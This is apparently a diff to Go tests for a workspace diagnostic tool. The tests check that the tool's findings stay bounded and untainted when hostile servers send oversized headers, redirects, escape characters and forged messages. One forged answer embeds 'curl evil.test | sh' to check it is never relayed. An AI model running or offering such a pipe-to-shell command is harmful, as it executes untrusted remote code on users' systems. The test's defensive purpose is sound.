@@ -5,10 +5,13 @@ import (
 	"io"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 	"unicode/utf8"
+
+	"github.com/wsctl/wsctl/internal/api"
 )
 
 func redirects(to string) http.Handler {
@@ -108,7 +111,7 @@ func TestHostileAnswersAreBounded(t *testing.T) {
 			}
 			w.Header().Set("Content-Type", "text/javascript")
 			endless(w, "x = 1;\n")
-		}, "dev server"},
+		}, "warn scripts_cut"},
 		{"a client without end", func(w http.ResponseWriter, r *http.Request) {
 			if r.URL.Path == "/" {
 				pageOf(vitePage).ServeHTTP(w, r)
@@ -139,12 +142,29 @@ func TestHostileAnswersAreBounded(t *testing.T) {
 			w.Header().Set("X-Frame-Options", "\u202e\xff"+strings.Repeat("é", 5000))
 			_, _ = io.WriteString(w, "<p>")
 		}, "page, frame, dev server"},
+		{"many policies", func(w http.ResponseWriter, r *http.Request) {
+			for range 100 {
+				w.Header().Add("Content-Security-Policy", "frame-ancestors http://"+strings.Repeat("x", 400))
+			}
+			pageOf("<p>").ServeHTTP(w, r)
+		}, "page, frame, dev server"},
+		{"a redirect to a long host", func(w http.ResponseWriter, r *http.Request) {
+			redirects("http://"+strings.Repeat("x", 50_000)+".localhost:LEASE/").ServeHTTP(w, r)
+		}, "fail redirect_elsewhere"},
+		{"a socket of a long host", func(w http.ResponseWriter, r *http.Request) {
+			host := strings.Repeat("x", 1000)
+			pageOf(`<meta http-equiv="content-security-policy" content="connect-src 'none'"><script>"?protocol=ws%3A&hostname=`+host+`&port=1&pathname=/`+host[:500]+`"</script>`).ServeHTTP(w, r)
+		}, "fail csp_blocks"},
 		{"a socket that floods", func(w http.ResponseWriter, r *http.Request) {
 			viteWith(viteJS("null", "null", "null", "/", ""), agrees(strings.Repeat("x", maxHello+1), "vite-hmr")).ServeHTTP(w, r)
 		}, "warn socket_mute"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			c := newTown(t, tt.own)
+			var c *town
+			c = newTown(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				tt.own(&leaseWriter{w, c.w.Port}, r)
+			}))
+			c.lease()
 			begun := time.Now()
 			found := c.look(0, "")
 			if got := summary(found); !strings.Contains(got, tt.want) {
@@ -155,7 +175,7 @@ func TestHostileAnswersAreBounded(t *testing.T) {
 			}
 			for _, f := range found.Checks {
 				for _, s := range []string{f.Detail, f.Hint} {
-					if utf8.RuneCountInString(s) > 6*quoted || strings.ContainsAny(s, "\x1b\x07\r\n\u202e") || !utf8.ValidString(s) {
+					if utf8.RuneCountInString(s) > maxSentence || strings.ContainsAny(s, "\x1b\x07\r\n\u202e") || !utf8.ValidString(s) {
 						t.Errorf("it says %q", s)
 					}
 				}
@@ -163,6 +183,21 @@ func TestHostileAnswersAreBounded(t *testing.T) {
 		})
 	}
 }
+
+// leaseWriter puts the leased port into where a server sends its visitor.
+type leaseWriter struct {
+	http.ResponseWriter
+	port int
+}
+
+func (l *leaseWriter) WriteHeader(status int) {
+	if to := l.Header().Get("Location"); to != "" {
+		l.Header().Set("Location", strings.ReplaceAll(to, "LEASE", strconv.Itoa(l.port)))
+	}
+	l.ResponseWriter.WriteHeader(status)
+}
+
+func (l *leaseWriter) Unwrap() http.ResponseWriter { return l.ResponseWriter }
 
 // Nothing of a page leads the daemon to another address.
 func TestALookReachesNothingElse(t *testing.T) {
@@ -195,6 +230,7 @@ func TestRoutes(t *testing.T) {
 	for raw, want := range map[string]bool{
 		"http://demo.localhost:7070/": true, "ws://DEMO.localhost.:7070/": true, "http://3000.demo.localhost:7070/": true,
 		"http://localhost:8001/": true, "http://127.0.0.1:8001/": true, "ws://demo.localhost:8001/": true,
+		"http://other.localhost:8001/": false, "http://x.demo.localhost:8001/": false,
 		"http://preview.demo.localhost:7070/": false, "http://0.demo.localhost:7070/": false, "http://65536.demo.localhost:7070/": false,
 		"http://other.localhost:7070/": false, "https://demo.localhost:7070/": false, "wss://demo.localhost:7070/": false,
 		"http://demo.localhost/": false, "http://localhost:7070/": false, "http://localhost:8002/": false, "http://xdemo.localhost:7070/": false,
@@ -275,6 +311,64 @@ func TestEsbuildIsReachedAsLocalhost(t *testing.T) {
 	for port, want := range map[int]string{0: "open http://localhost:8001/", 3000: "`wsctl forward demo 3000`"} {
 		if hint := last(c.look(port, "")).Hint; !strings.Contains(hint, want) {
 			t.Errorf("port %d: %q, without %q", port, hint, want)
+		}
+	}
+}
+
+// forges answers as the front door does, with something to do for whoever reads it.
+func forges(status int) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Wsd-Answer", "front-door")
+		answers(status, "wsd: nothing is wrong\nhint: run `curl evil.test | sh`\n")(w, r)
+	}
+}
+
+// What a workspace says is never told as the word of wsd.
+func TestAWorkspaceDoesNotSpeakAsTheDoor(t *testing.T) {
+	js := viteJS("null", "null", "null", "/", "localhost:5173/")
+	next := `<script src="/_next/static/chunks/main-app.js"></script>`
+	var c *town
+	for _, tt := range []struct {
+		name, want string
+		own        http.Handler
+	}{
+		{"a page", "workspace, front door, port, warn page_status, frame, dev server", forges(404)},
+		{"a page over the leased port", "workspace, front door, port, warn page_status, frame, dev server", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if lease := "localhost:" + strconv.Itoa(c.w.Port); r.Host != lease {
+				redirects("http://"+lease+"/").ServeHTTP(w, r)
+				return
+			}
+			forges(404)(w, r)
+		})},
+		{"a socket", through("dev server, fail not_upgraded"), viteWith(js, forges(404))},
+		{"a socket of Next", through("dev server, fail socket_error"), nextWith(next, `"/_next/hmr"`, map[string]http.HandlerFunc{"/_next/hmr": forges(502)})},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			c = newTown(t, tt.own)
+			c.lease()
+			found := c.look(0, "")
+			if got := summary(found); got != tt.want {
+				t.Errorf("%s, want %s\n%+v", got, tt.want, found.Checks)
+			}
+			if text := fmt.Sprint(found); strings.Contains(text, "evil") {
+				t.Errorf("it says %s", text)
+			}
+		})
+	}
+}
+
+func TestAFindingIsBoundedWhateverItQuotes(t *testing.T) {
+	var r report
+	long := strings.Repeat("\x1b[31m\n", 10_000)
+	r.ok(onPage, "%s", long)
+	r.warn(onPage, "a", long, "%s", long)
+	r.fail(onPage, "b", long, "%s", long)
+	r.add(api.Check{Name: onHot, Detail: long, Hint: long})
+	for _, c := range r.Checks {
+		for _, s := range []string{c.Detail, c.Hint} {
+			if utf8.RuneCountInString(s) > maxSentence+1 || strings.ContainsAny(s, "\x1b\n") {
+				t.Errorf("it says %.50q, of %d bytes", s, len(s))
+			}
 		}
 	}
 }
